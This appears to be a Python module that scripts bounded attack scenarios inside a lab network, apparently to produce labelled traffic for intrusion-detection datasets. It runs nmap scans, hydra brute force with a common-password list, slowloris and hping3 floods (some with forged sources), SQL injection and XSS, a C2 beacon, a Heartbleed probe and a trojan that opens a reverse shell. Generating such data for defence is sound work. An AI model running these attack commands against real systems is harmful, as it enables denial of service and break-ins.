"""Attacks with the tools that attackers use, each a few seconds long and bounded in count and rate."""

from __future__ import annotations

from collections.abc import Callable, Sequence
from concurrent.futures import ThreadPoolExecutor
from functools import partial
from pathlib import Path

from lab.labels import ICMP, TCP, UDP
from lab.scenarios import Scenario, Stage
from lab.servers import (
    USER,
    start_command_and_control,
    start_dns,
    start_ftp,
    start_heartbleed,
    start_infiltrator,
    start_ssh,
    start_web,
)

_PASSWORDS = (
    "123456",
    "password",
    "12345678",
    "qwerty",
    "123456789",
    "12345",
    "1234",
    "111111",
    "1234567",
    "dragon",
    "123123",
    "baseball",
    "abc123",
    "football",
    "monkey",
    "letmein",
    "696969",
    "shadow",
    "master",
    "666666",
    "qwertyuiop",
    "123321",
    "mustang",
    "1234567890",
)
_UNUSED_SOURCES = [f"10.77.0.{number}" for number in range(231, 237)]
"""Addresses of the lab that no host has: answers to them go nowhere, as with any forged source."""


def _scan(*options: str, tool: str, host: str = "web", family: int = 4) -> Callable[[Stage], None]:
    def action(stage: Stage) -> None:
        scanner, target = stage.host("mallory"), stage.host(host)
        source, address = (scanner.ipv4, target.ipv4) if family == 4 else (scanner.ipv6, target.ipv6)
        with stage.label("PortScan", tool, source, address):
            scanner.run("nmap", "-n", "-Pn", *options, address, timeout_s=90, check=True)

    return action


def _word_list(folder: Path) -> str:
    words = folder / "words.txt"
    words.write_text("\n".join(_PASSWORDS) + "\n")
    return str(words)


def _hydra(class_name: str, service: str, host: str, port: int, *options: str) -> Callable[[Stage], None]:
    def action(stage: Stage) -> None:
        attacker, target = stage.host("trudy"), stage.host(host)
        words = [
            "-l",
            "admin" if host == "web" else USER,
            "-P",
            _word_list(attacker.folder),
            "-t",
            "4",
            "-w",
            "3",
            "-I",
        ]
        with stage.label(class_name, f"hydra {service}", attacker.ipv4, target.ipv4, port, TCP):
            attacker.run("hydra", *words, target.ipv4, service, *options, timeout_s=60)

    return action


def _slow(
    class_name: str, mode: str, *options: str, page: str = "1m.bin", seconds: int = 12, connections: int = 40
) -> Callable[[Stage], None]:
    def action(stage: Stage) -> None:
        attacker, target = stage.host("mallory"), stage.host("web")
        words = ["-c", str(connections), "-r", "20", "-l", str(seconds), "-p", "3", "-v", "0"]
        url = f"http://{target.ipv4}/{page}"
        with stage.label(class_name, f"slowhttptest {mode}", attacker.ipv4, target.ipv4, 80, TCP):
            attacker.run("slowhttptest", mode, *words, *options, "-u", url, timeout_s=seconds + 30)

    return action


def _packet_flood(
    tool: str, protocol: int, port: int | None, *options: str, is_forged: bool = False
) -> Callable[[Stage], None]:
    """Six sources at once, 500 packets each at 250 packets/s."""

    def action(stage: Stage) -> None:
        zombies, target = stage.host("zombies"), stage.host("web")
        sources = _UNUSED_SOURCES if is_forged else zombies.all_ipv4
        words = ["-q", "-I", "eth0", "-i", "u4000", "-c", "500", *options]
        commands = [("hping3", *words, "-a", source, target.ipv4) for source in sources]
        with stage.label("DDoS", tool, sources, target.ipv4, port, protocol):
            _together([partial(zombies.run, *command, timeout_s=30, check=True) for command in commands])

    return action


def _together(actions: Sequence[Callable[[], object]]) -> None:
    """Run the actions at the same time; the first failure is raised when all have ended."""
    with ThreadPoolExecutor(len(actions)) as pool:
        running = [pool.submit(action) for action in actions]
    for future in running:
        future.result()


def _http_ddos(stage: Stage) -> None:
    zombies, target = stage.host("zombies"), stage.host("web")
    url = f"http://{target.ipv4}/1k.bin"
    commands = [("ab", "-q", "-r", "-n", "60", "-c", "3", "-B", source, url) for source in zombies.all_ipv4]
    with stage.label("DDoS", "ab", zombies.all_ipv4, target.ipv4, 80, TCP):
        _together([partial(zombies.run, *command, timeout_s=30, check=True) for command in commands])


def _http_flood(style: str, class_name: str) -> Callable[[Stage], None]:
    def action(stage: Stage) -> None:
        attacker, target = stage.host("mallory"), stage.host("web")
        with stage.label(class_name, f"http_flood {style}", attacker.ipv4, target.ipv4, 80, TCP):
            attacker.run_module("lab.tools.http_flood", style, target.ipv4)

    return action


def _web_attack(kind: str, class_name: str) -> Callable[[Stage], None]:
    def action(stage: Stage) -> None:
        attacker, target = stage.host("trudy"), stage.host("web")
        with stage.label(class_name, f"web_attacks {kind}", attacker.ipv4, target.ipv4, 80, TCP):
            attacker.run_module("lab.tools.web_attacks", kind, target.ipv4)

    return action


def beacon(stage: Stage, count: int = 6, interval_s: float = 2.0) -> None:
    """Let `carol` report to `c2`."""
    infected, c2 = stage.host("carol"), stage.host("c2")
    with stage.label("Bot", "beacon", infected.ipv4, c2.ipv4, 8443, TCP):
        words = [c2.ipv4, "--count", str(count), "--interval-s", str(interval_s)]
        infected.run_module("lab.tools.beacon", *words, timeout_s=count * interval_s * 1.1 + 30)


def _heartbleed(stage: Stage) -> None:
    attacker, target = stage.host("mallory"), stage.host("web")
    words = ["-n", "-Pn", "-sT", "-p", "4433", "--script", "ssl-heartbleed", target.ipv4]
    with stage.label("Heartbleed", "nmap ssl-heartbleed", attacker.ipv4, target.ipv4, 4433, TCP):
        for _ in range(3):
            attacker.run("nmap", *words, timeout_s=40, check=True)


def _infiltration(stage: Stage) -> None:
    """Let `alice` fetch a trojan, open a shell to its maker, and be used to scan the inside."""
    victim, attacker = stage.host("alice"), stage.host("trudy")
    with stage.label("Infiltration", "infiltration", victim.ipv4, attacker.ipv4, None, TCP):
        victim.run_module("lab.tools.infiltration", "implant", attacker.ipv4, "4444", "8000")
    inside = [stage.host(name).ipv4 for name in ("files", "dns")]
    for address in inside:
        with stage.label("Infiltration", "nmap -sT from inside", victim.ipv4, address, None, TCP):
            victim.run("nmap", "-n", "-Pn", "-sT", "--top-ports", "60", "--max-rate", "60", address, check=True)


_WEB, _SSH, _FTP = ("nginx", "openssl"), ("sshd", "openssl"), ("vsftpd", "openssl")
_FORM = "/app/login:user=^USER^&password=^PASS^:incorrect"

ATTACK_SCENARIOS = (
    Scenario(
        "scan-syn",
        "Half-open scan of 300 ports.",
        ("PortScan",),
        (*_WEB, "nmap"),
        (start_web,),
        _scan("-sS", "--top-ports", "300", "--max-rate", "150", tool="nmap -sS"),
    ),
    Scenario(
        "scan-connect",
        "Scan of 300 ports with full connections.",
        ("PortScan",),
        (*_WEB, "nmap"),
        (start_web,),
        _scan("-sT", "--top-ports", "300", "--max-rate", "150", tool="nmap -sT"),
    ),
    Scenario(
        "scan-udp",
        "UDP scan of 12 ports; most are answered by ICMP.",
        ("PortScan",),
        ("dnsmasq", "nmap"),
        (start_dns,),
        _scan("-sU", "--top-ports", "12", "--max-retries", "2", tool="nmap -sU", host="dns"),
    ),
    Scenario(
        "scan-version",
        "Service and version detection.",
        ("PortScan",),
        (*_SSH, "vsftpd", "nmap"),
        (start_ssh, start_ftp),
        _scan("-sV", "-p", "21,22,80,443,3306", tool="nmap -sV", host="files"),
    ),
    Scenario(
        "scan-slow",
        "Half-open scan with half a second between probes.",
        ("PortScan",),
        (*_WEB, "nmap"),
        (start_web,),
        _scan("-sS", "--top-ports", "24", "--scan-delay", "500ms", tool="nmap -sS --scan-delay 500ms"),
    ),
    Scenario(
        "scan-ipv6",
        "Half-open scan of 200 ports over IPv6.",
        ("PortScan",),
        (*_WEB, "nmap"),
        (start_web,),
        _scan("-6", "-sS", "--top-ports", "200", "--max-rate", "150", tool="nmap -6 -sS", family=6),
    ),
    Scenario(
        "brute-ssh",
        "Password guessing over SSH.",
        ("SSH-Patator",),
        (*_SSH, "hydra"),
        (start_ssh,),
        _hydra("SSH-Patator", "ssh", "files", 22),
    ),
    Scenario(
        "brute-ftp",
        "Password guessing over FTP.",
        ("FTP-Patator",),
        (*_FTP, "hydra"),
        (start_ftp,),
        _hydra("FTP-Patator", "ftp", "files", 21),
    ),
    Scenario(
        "brute-web",
        "Password guessing at a login form.",
        ("Web Attack – Brute Force",),
        (*_WEB, "hydra"),
        (start_web,),
        _hydra("Web Attack – Brute Force", "http-post-form", "web", 80, _FORM),
    ),
    Scenario(
        "slow-headers",
        "Slowloris: headers that never end.",
        ("DoS slowloris",),
        (*_WEB, "slowhttptest"),
        (start_web,),
        _slow("DoS slowloris", "-H", "-i", "3", page=""),
    ),
    Scenario(
        "slow-body",
        "Bodies that arrive a few bytes at a time.",
        ("DoS Slowhttptest",),
        (*_WEB, "slowhttptest"),
        (start_web,),
        _slow("DoS Slowhttptest", "-B", "-i", "3", page="app/login"),
    ),
    Scenario(
        "slow-read",
        "Answers read a few bytes at a time.",
        ("DoS Slowhttptest",),
        (*_WEB, "slowhttptest"),
        (start_web,),
        _slow("DoS Slowhttptest", "-X", "-n", "2", "-w", "256", "-y", "512", "-z", "32", connections=25),
    ),
    Scenario(
        "slow-range",
        "Overlapping byte ranges.",
        ("DoS Slowhttptest",),
        (*_WEB, "slowhttptest"),
        (start_web,),
        _slow("DoS Slowhttptest", "-R", "-a", "10", "-b", "300", "-t", "HEAD", seconds=6),
    ),
    Scenario(
        "flood-syn",
        "SYN flood from six hosts.",
        ("DDoS",),
        (*_WEB, "hping3"),
        (start_web,),
        _packet_flood("hping3 -S", TCP, 80, "-S", "-p", "80"),
    ),
    Scenario(
        "flood-syn-forged",
        "SYN flood from six forged addresses; its answers reach nobody.",
        ("DDoS",),
        (*_WEB, "hping3"),
        (start_web,),
        _packet_flood("hping3 -S -a", TCP, 80, "-S", "-p", "80", is_forged=True),
    ),
    Scenario(
        "flood-udp",
        "UDP flood from six hosts.",
        ("DDoS",),
        (*_WEB, "hping3"),
        (start_web,),
        _packet_flood("hping3 --udp", UDP, 53, "--udp", "-p", "53", "-d", "120"),
    ),
    Scenario(
        "flood-icmp",
        "Ping flood from six hosts.",
        ("DDoS",),
        (*_WEB, "hping3"),
        (start_web,),
        _packet_flood("hping3 --icmp", ICMP, None, "--icmp", "-d", "200"),
    ),
    Scenario(
        "flood-http",
        "Six hosts asking for a page as fast as they can.",
        ("DDoS",),
        (*_WEB, "ab"),
        (start_web,),
        _http_ddos,
    ),
    Scenario(
        "flood-hulk",
        "Uncacheable requests, a connection for each.",
        ("DoS Hulk",),
        _WEB,
        (start_web,),
        _http_flood("hulk", "DoS Hulk"),
    ),
    Scenario(
        "flood-goldeneye",
        "Uncacheable requests over kept connections.",
        ("DoS GoldenEye",),
        _WEB,
        (start_web,),
        _http_flood("goldeneye", "DoS GoldenEye"),
    ),
    Scenario(
        "sql-injection",
        "SQL in an item number and in a login form.",
        ("Web Attack – Sql Injection",),
        _WEB,
        (start_web,),
        _web_attack("sql", "Web Attack – Sql Injection"),
    ),
    Scenario(
        "xss",
        "Scripts in a search field.",
        ("Web Attack – XSS",),
        _WEB,
        (start_web,),
        _web_attack("xss", "Web Attack – XSS"),
    ),
    Scenario(
        "beacon",
        "An infected host reporting every two seconds.",
        ("Bot",),
        (),
        (start_command_and_control,),
        beacon,
    ),
    Scenario(
        "heartbleed",
        "Heartbeats that ask for more than they brought.",
        ("Heartbleed",),
        (*_WEB, "nmap"),
        (start_heartbleed,),
        _heartbleed,
    ),
    Scenario(
        "infiltration",
        "A trojan, a shell to its maker, and a scan from inside.",
        ("Infiltration",),
        (*_SSH, "dnsmasq", "nmap"),
        (start_ssh, start_dns, start_infiltrator),
        _infiltration,
    ),
)
